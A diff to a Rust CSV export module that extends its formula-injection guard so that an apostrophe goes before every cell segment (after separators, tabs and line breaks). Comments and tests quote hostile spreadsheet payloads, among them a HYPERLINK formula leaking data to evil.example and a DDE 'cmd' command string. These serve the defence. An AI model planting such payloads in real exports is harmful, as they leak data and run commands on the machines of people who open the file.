@@ -9,10 +9,20 @@
 //! `@` as a formula (and strips a leading tab or CR before looking), so a partner named
 //! `=HYPERLINK("https://evil.example?"&A1)` would leak the sheet, or run a command
 //! through DDE, the moment a colleague opens the export. Every such cell is written with
-//! a leading apostrophe, which spreadsheets read as "this is text". Reading strips one
-//! apostrophe again where it precedes such a character; a value that itself starts with
-//! apostrophes before such a character gets one more on the way out, so every value
-//! round-trips exactly (see [`guard`] and [`unguard`]).
+//! a leading apostrophe, which spreadsheets read as "this is text". A cell does not
+//! only start where we mean it to: Excel in a locale whose list separator is `;` (much
+//! of Europe) splits our comma-separated file at semicolons, a tool that ignores quotes
+//! splits it at every comma and line break, and a paste splits at tabs. So the guard
+//! works on *segments*: the cell's start and every position after a `,`, `;`, tab, CR
+//! or LF inside it. A segment that would start a formula (after any apostrophes and
+//! quotes, which a lenient reader also skips) gets an apostrophe:
+//! `x;=cmd|' /C calc'!A0` is written `x;'=cmd|' /C calc'!A0`, and a note's second line
+//! `=1+1` becomes `'=1+1` (the apostrophe shows in the sheet; the formula never runs).
+//! Reading strips one apostrophe again where it precedes such a segment; a segment that
+//! itself starts with apostrophes before such a character gets one more on the way out,
+//! so every value round-trips exactly (see [`guard`] and [`unguard`]). Cells holding a
+//! `;` or a tab are quoted as well as those with a comma, quote or line break, so a
+//! reader splitting on either still keeps them whole when it honours quotes.
 //!
 //! **In.** [`CsvTable::parse`] reads the file (UTF-8 with or without a byte-order mark;
 //! comma, semicolon or tab, detected from the header row; quoted cells with line breaks;
@@ -119,29 +129,70 @@ pub const KEY_PLAYER_HEADERS: [&str; 9] = [
 /// The characters a spreadsheet starts a formula with, and the two it skips first.
 const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
-/// Whether `cell` would start a formula once its leading apostrophes are taken off.
-fn needs_guard(cell: &str) -> bool {
-    cell.trim_start_matches('\'')
+/// The characters after which some reader starts a new cell: the separators of every
+/// locale and of a paste, and line breaks.
+const CELL_BREAKS: [char; 5] = [',', ';', '\t', '\r', '\n'];
+
+/// Whether the text from a segment start on would start a formula once its leading
+/// apostrophes (ours) and quotes (which a lenient reader drops as it opens a quoted
+/// cell) are taken off.
+fn needs_guard(segment: &str) -> bool {
+    segment
+        .trim_start_matches(['\'', '"'])
         .starts_with(&FORMULA_STARTS[..])
 }
 
-/// A cell as written: with a leading apostrophe when a spreadsheet would otherwise run
-/// it as a formula. `guard("=1+1")` is `'=1+1`; `guard("Acme")` is `Acme`.
-pub fn guard(cell: &str) -> Cow<'_, str> {
-    if needs_guard(cell) {
-        Cow::Owned(format!("'{cell}"))
-    } else {
-        Cow::Borrowed(cell)
-    }
+/// The byte offsets where some reader could start a cell inside `cell`: its start and
+/// the position after every [`CELL_BREAKS`] character.
+fn segment_starts(cell: &str) -> impl Iterator<Item = usize> + '_ {
+    std::iter::once(0).chain(
+        cell.char_indices()
+            .filter(|(_, c)| CELL_BREAKS.contains(c))
+            .map(|(i, c)| i + c.len_utf8()),
+    )
 }
 
-/// A cell as read: [`guard`] undone. `unguard("'=1+1")` is `=1+1`; an apostrophe before
-/// anything else stays (`'90s` is a value, not a guard).
-pub fn unguard(cell: &str) -> &str {
-    match cell.strip_prefix('\'') {
-        Some(rest) if needs_guard(cell) => rest,
-        _ => cell,
+/// A cell as written: an apostrophe before every segment (the cell's start, or the
+/// text after a `,`, `;`, tab or line break) that a spreadsheet would otherwise run as
+/// a formula. `guard("=1+1")` is `'=1+1`; `guard("x;=1+1")` is `x;'=1+1`;
+/// `guard("Acme")` is `Acme`. Segment boundaries are the same before and after, which
+/// is what lets [`unguard`] undo it exactly.
+pub fn guard(cell: &str) -> Cow<'_, str> {
+    let mut at = segment_starts(cell)
+        .filter(|&i| needs_guard(&cell[i..]))
+        .peekable();
+    if at.peek().is_none() {
+        return Cow::Borrowed(cell);
     }
+    let mut out = String::with_capacity(cell.len() + 4);
+    let mut copied = 0;
+    for i in at {
+        out.push_str(&cell[copied..i]);
+        out.push('\'');
+        copied = i;
+    }
+    out.push_str(&cell[copied..]);
+    Cow::Owned(out)
+}
+
+/// A cell as read: [`guard`] undone. `unguard("'=1+1")` is `=1+1`, `unguard("x;'=1")`
+/// is `x;=1`; an apostrophe before anything else stays (`'90s` is a value, not a guard).
+pub fn unguard(cell: &str) -> Cow<'_, str> {
+    let mut at = segment_starts(cell)
+        .filter(|&i| cell[i..].starts_with('\'') && needs_guard(&cell[i..]))
+        .peekable();
+    if at.peek().is_none() {
+        return Cow::Borrowed(cell);
+    }
+    let mut out = String::with_capacity(cell.len());
+    let mut copied = 0;
+    for i in at {
+        out.push_str(&cell[copied..i]);
+        // Skip the guard's apostrophe (one byte).
+        copied = i + 1;
+    }
+    out.push_str(&cell[copied..]);
+    Cow::Owned(out)
 }
 
 /// Writes a header row and data rows as CSV text, every cell guarded against formula
@@ -164,22 +215,28 @@ where
     text
 }
 
-/// One record, CRLF-terminated, each cell quoted when it holds a comma, a quote or a
-/// line break (RFC 4180), with quotes doubled.
+/// One record, CRLF-terminated, each cell quoted by [`push_quoted`].
 fn write_row<'a>(out: &mut String, cells: impl Iterator<Item = &'a str>) {
     for (i, cell) in cells.enumerate() {
         if i > 0 {
             out.push(',');
         }
-        if cell.contains([',', '"', '\r', '\n']) {
-            out.push('"');
-            out.push_str(&cell.replace('"', "\"\""));
-            out.push('"');
-        } else {
-            out.push_str(cell);
-        }
+        push_quoted(out, cell);
     }
     out.push_str("\r\n");
+}
+
+/// Appends `cell`, quoted when it holds a comma, a quote or a line break (RFC 4180), or
+/// a semicolon or tab (the separators of other readers and of a paste), with quotes
+/// doubled. The cell should already be [`guard`]ed.
+pub fn push_quoted(out: &mut String, cell: &str) {
+    if cell.contains([',', ';', '\t', '"', '\r', '\n']) {
+        out.push('"');
+        out.push_str(&cell.replace('"', "\"\""));
+        out.push('"');
+    } else {
+        out.push_str(cell);
+    }
 }
 
 /// The download name of a CSV export, like the Tandem file's with `what` added:
@@ -468,8 +525,8 @@ impl CsvTable {
             .into_iter()
             .map(|mut r| {
                 for cell in &mut r.cells {
-                    if unguard(cell).len() < cell.len() {
-                        cell.remove(0);
+                    if let Cow::Owned(clear) = unguard(cell) {
+                        *cell = clear;
                     }
                 }
                 r
@@ -1307,6 +1364,25 @@ mod tests {
         // An apostrophe the user typed before a formula character survives the trip.
         assert_eq!(guard("'=x"), "''=x");
         assert_eq!(unguard("''=x"), "'=x");
+        // A formula after any separator, tab or line break is guarded too, since some
+        // reader starts a cell there; one behind a quote as well.
+        for (value, written) in [
+            ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
+            ("a,+1", "a,'+1"),
+            ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
+            ("note\r\n-1+1", "note\r\n'-1+1"),
+            ("\"=1", "'\"=1"),
+            ("=1\n=2", "'=1\n'=2"),
+            ("a\t\t=1", "a\t'\t'=1"),
+            ("x;'=1", "x;''=1"),
+        ] {
+            assert_eq!(guard(value), written);
+            assert_eq!(unguard(written), value);
+        }
+        for safe in ["a, b", "a; -b", "a-b;c", "x;'90s", "1,5"] {
+            assert_eq!(guard(safe), safe);
+            assert_eq!(unguard(safe), safe);
+        }
     }
 
     #[test]
